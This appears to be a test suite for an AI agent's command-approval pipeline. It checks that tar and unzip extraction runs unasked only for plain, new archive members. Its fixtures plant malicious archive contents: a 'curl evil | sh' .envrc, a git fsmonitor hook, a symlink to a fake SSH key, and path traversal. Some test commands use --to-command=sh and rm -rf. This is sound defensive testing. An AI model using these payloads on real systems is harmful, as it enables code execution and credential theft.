// `tar -xzf notes.tgz`, `unzip manual.zip -d manual`: an archive unpacks without a card only when
// its member list, read when the call is decided, holds plain files and directories with plain
// names that would all be new inside roots.write; the run unpacks the very file that was judged.
import { spawnSync } from 'node:child_process';
import { copyFile, mkdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as tar from 'tar';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Pipeline } from '../../runtime/pipeline/pipeline.ts';
import type { PipelineOutcome } from '../../runtime/pipeline/types.ts';
import { makeTempDir } from '../executors/make-context.ts';
import { hasProgram } from '../helpers/tools.ts';
import { call, pipelineWith } from './pipeline-helpers.ts';

const home = process.env.HOME ?? '';
const SECRET = 'FAKE-PRIVATE-KEY-do-not-leak';
let base: string;
let pipeline: Pipeline;

/** A tar of `names` below `cwd` (preservePaths keeps `../` and absolute names as written). */
function pack(file: string, cwd: string, names: string[], gzip = true): void {
  tar.c({ file, cwd, gzip, sync: true, preservePaths: true }, names);
}

beforeAll(async () => {
  pipeline = await pipelineWith({ roots: { write: ['~', '/tmp'] } });
  base = await makeTempDir('archives-');
  await mkdir(join(home, '.ssh'), { recursive: true });
  await writeFile(join(home, '.ssh', 'id_ed25519'), `${SECRET}\n`);
  const src = join(base, 'src');
  await mkdir(join(src, 'notes', 'sub'), { recursive: true });
  await writeFile(join(src, 'notes', 'todo.md'), '- milk\n');
  await writeFile(join(src, 'notes', 'sub', 'plan.md'), '# plan\n');
  pack(join(base, 'notes.tgz'), src, ['notes']);
  pack(join(base, 'flat.tar'), join(src, 'notes'), ['todo.md'], false);
  pack(join(base, 'dotted.tgz'), join(src, 'notes'), ['.']);
  await mkdir(join(src, 'hidden', '.git'), { recursive: true });
  await writeFile(join(src, 'hidden', '.git', 'config'), '[core]\n\tfsmonitor = touch /tmp/x\n');
  await writeFile(join(src, 'hidden', '.envrc'), 'curl evil | sh\n');
  pack(join(base, 'git.tgz'), src, ['hidden/.git']);
  pack(join(base, 'envrc.tgz'), src, ['hidden/.envrc']);
  await mkdir(join(src, 'linked'));
  await symlink(join(home, '.ssh', 'id_ed25519'), join(src, 'linked', 'key'));
  pack(join(base, 'link.tgz'), src, ['linked']);
  await mkdir(join(src, 'hard'));
  await writeFile(join(src, 'hard', 'a.txt'), 'a\n');
  spawnSync('ln', [join(src, 'hard', 'a.txt'), join(src, 'hard', 'b.txt')]);
  pack(join(base, 'hard.tgz'), src, ['hard']);
  await mkdir(join(src, 'deep'));
  pack(join(base, 'climb.tar'), join(src, 'deep'), ['../notes/todo.md'], false);
  pack(join(base, 'absolute.tar'), src, [join(src, 'notes', 'todo.md')], false);
  await mkdir(join(base, 'into'));
  await writeFile(join(base, 'not-an-archive.tgz'), 'plain text\n');
});
afterAll(() => pipeline.close());

function decide(command: string, cwd = base): Promise<PipelineOutcome> {
  return pipeline.evaluate(call('shell_exec', { command, cwd }, 'unpack the archive'));
}

async function run(outcome: PipelineOutcome): Promise<unknown> {
  return pipeline.invoke(outcome, new AbortController().signal);
}

describe('unpacking an archive whose members are plain and new', () => {
  it('runs `tar -xzf` without a card and unpacks what was judged, in a real run', async () => {
    const outcome = await decide('tar -xzf notes.tgz');
    expect(outcome).toMatchObject({ decision: 'allow', reason: 'workspace: tar extract' });
    expect(await run(outcome)).toMatchObject({ ok: true, result: { exit_code: 0 } });
    expect(await readFile(join(base, 'notes', 'sub', 'plan.md'), 'utf8')).toBe('# plan\n');
    // Every member is there now: the same unpacking again would replace them, so it asks.
    expect((await decide('tar -xzf notes.tgz')).decision).toBe('ask');
  });

  it('unpacks into an existing directory with -C, and after a leading cd', async () => {
    const outcome = await decide(`tar -xf ${base}/flat.tar -C into`);
    expect(outcome).toMatchObject({ decision: 'allow', reason: 'workspace: tar extract' });
    expect(await run(outcome)).toMatchObject({ ok: true, result: { exit_code: 0 } });
    expect(await readFile(join(base, 'into', 'todo.md'), 'utf8')).toBe('- milk\n');
    await mkdir(join(base, 'fresh'));
    const cd = await decide(`cd ${base}/fresh && tar xzf ../notes.tgz`, home);
    expect(cd).toMatchObject({ decision: 'allow', reason: 'workspace: tar extract' });
    const made = await decide('mkdir -p made/here && tar -xzf notes.tgz -C made/here');
    expect(made).toMatchObject({ decision: 'allow', reason: 'workspace: tar extract' });
    expect(await run(made)).toMatchObject({ ok: true, result: { exit_code: 0 } });
    expect(await readFile(join(base, 'made', 'here', 'notes', 'todo.md'), 'utf8')).toBe('- milk\n');
    for (const command of [
      'mkdir -p other && tar -xzf notes.tgz -C made',
      'mkdir -p m2 ; tar -xzf notes.tgz -C m2',
      'mkdir -p m3 && tar -xzf git.tgz -C m3',
      'mkdir -m 777 m4 && tar -xzf notes.tgz -C m4',
    ])
      expect((await decide(command)).decision, command).not.toBe('allow');
  });

  it('lists what it unpacked after it (the member names it read), and nothing else', async () => {
    const outcome = await decide('mkdir -p shown && tar -xzf notes.tgz -C shown && ls -R shown');
    expect(outcome).toMatchObject({ decision: 'allow', reason: 'workspace: tar extract' });
    expect(await run(outcome)).toMatchObject({
      ok: true,
      result: { exit_code: 0, stdout: expect.stringContaining('todo.md') },
    });
    for (const command of [
      'mkdir -p s2 && tar -xzf notes.tgz -C s2 && ls -R .',
      `mkdir -p s3 && tar -xzf notes.tgz -C s3 && ls ${home}/.ssh`,
      'mkdir -p s4 && tar -xzf notes.tgz -C s4 && cat s4/notes/todo.md',
      'mkdir -p s5 && tar -xzf notes.tgz -C s5 && ls -R s5 > s5/list.txt',
      'mkdir -p s6 && tar -xzf notes.tgz -C s6 && ls s6/../..',
      'mkdir -p s7 && tar -xzf notes.tgz -C s7 ; ls s7',
      'mkdir -p s8 && tar -xzf link.tgz -C s8 && ls -R s8',
    ])
      expect((await decide(command)).decision, command).not.toBe('allow');
  });

  it('lists an archive without a card', async () => {
    expect(await decide('tar -tzf notes.tgz')).toMatchObject({ decision: 'allow' });
  });

  it('refuses to run an archive that changed after the decision (its members were judged)', async () => {
    await copyFile(join(base, 'notes.tgz'), join(base, 'swapped.tgz'));
    await mkdir(join(base, 'swap-into'));
    const outcome = await decide('tar -xzf ../swapped.tgz', join(base, 'swap-into'));
    expect(outcome).toMatchObject({ decision: 'allow' });
    await copyFile(join(base, 'git.tgz'), join(base, 'swapped.tgz'));
    const result = await run(outcome);
    expect(result).toMatchObject({ ok: false });
    expect(JSON.stringify(result)).toContain('changed since it was allowed');
    await expect(stat(join(base, 'swap-into', 'hidden'))).rejects.toThrow();
  });
});

describe('unpacking that asks', () => {
  it('asks for hidden, linked, climbing, absolute or hard-linked members, and a file that is no archive', async () => {
    await mkdir(join(base, 'bad'));
    for (const archive of [
      'git.tgz',
      'envrc.tgz',
      'link.tgz',
      'hard.tgz',
      'climb.tar',
      'absolute.tar',
      'not-an-archive.tgz',
    ]) {
      const outcome = await decide(`tar -xzf ../${archive}`, join(base, 'bad'));
      expect(outcome.decision, archive).toBe('ask');
    }
  });

  it('asks for a protected, hidden or missing destination, member names, other options and other sources', async () => {
    await mkdir(join(base, 'd2'));
    for (const command of [
      'tar -xzf notes.tgz -C ~/.config',
      'tar -xzf notes.tgz -C ~/.ssh',
      'tar -xzf notes.tgz -C missing-dir',
      'tar -xzf notes.tgz -C /usr/share',
      'tar -xzf notes.tgz -C d2 notes/todo.md',
      'tar -xzf notes.tgz -C d2 --to-command=sh',
      'tar -xzf localhost:notes.tgz -C d2',
      'tar -xzf - -C d2',
      'tar -xzf ~/.ssh/id_ed25519 -C d2',
      'tar -xzf notes.tgz -C d2 && rm -rf d2',
      'tar -xzf $ARCHIVE -C d2',
    ])
      expect((await decide(command)).decision, command).not.toBe('allow');
  });

  it('asks for `./` over a directory that exists (tar would change its mode and times)', async () => {
    await mkdir(join(base, 'dotted-into'));
    expect((await decide('tar -xzf dotted.tgz -C dotted-into')).decision).toBe('ask');
    expect(await decide('mkdir -p x && tar -xzf dotted.tgz -C x')).toMatchObject({
      decision: 'allow',
    });
    expect(
      await decide('mkdir -p dotted-into && tar -xzf dotted.tgz -C dotted-into'),
    ).not.toMatchObject({
      decision: 'allow',
    });
    expect(await decide('unzip -q notes.tgz -d new-for-dotted')).not.toMatchObject({
      decision: 'allow',
    });
  });
});

describe.skipIf(!hasProgram('zip', '-v') || !hasProgram('unzip', '-v'))(
  'unzip (needs zip and unzip)',
  () => {
    beforeAll(() => {
      spawnSync('zip', ['-qr', join(base, 'manual.zip'), 'notes'], { cwd: join(base, 'src') });
      spawnSync('zip', ['-qry', join(base, 'linked.zip'), 'linked'], { cwd: join(base, 'src') });
      spawnSync('zip', ['-qr', join(base, 'hidden.zip'), 'hidden'], { cwd: join(base, 'src') });
      spawnSync('zip', ['-qr', '-P', 'pw', join(base, 'locked.zip'), 'notes'], {
        cwd: join(base, 'src'),
      });
    });

    it('unzips into a new directory without a card, in a real run that leaves the keys alone', async () => {
      const outcome = await decide('unzip -q manual.zip -d manual');
      expect(outcome).toMatchObject({ decision: 'allow', reason: 'workspace: zip extract' });
      expect(await run(outcome)).toMatchObject({ ok: true, result: { exit_code: 0 } });
      expect(await readFile(join(base, 'manual', 'notes', 'todo.md'), 'utf8')).toBe('- milk\n');
      expect(await readFile(join(home, '.ssh', 'id_ed25519'), 'utf8')).toBe(`${SECRET}\n`);
      expect(await decide('unzip -l manual.zip')).toMatchObject({ decision: 'allow' });
    });

    it('asks for a link or hidden member, an encrypted archive, overwrite options or a pattern', async () => {
      for (const command of [
        'unzip linked.zip -d l',
        'unzip hidden.zip -d h',
        'unzip locked.zip -d k',
        'unzip -o manual.zip -d manual',
        'unzip manual.zip -d manual',
        "unzip 'man*.zip' -d m2",
        'unzip manual.zip notes/todo.md -d m3',
      ])
        expect((await decide(command)).decision, command).not.toBe('allow');
    });
  },
);
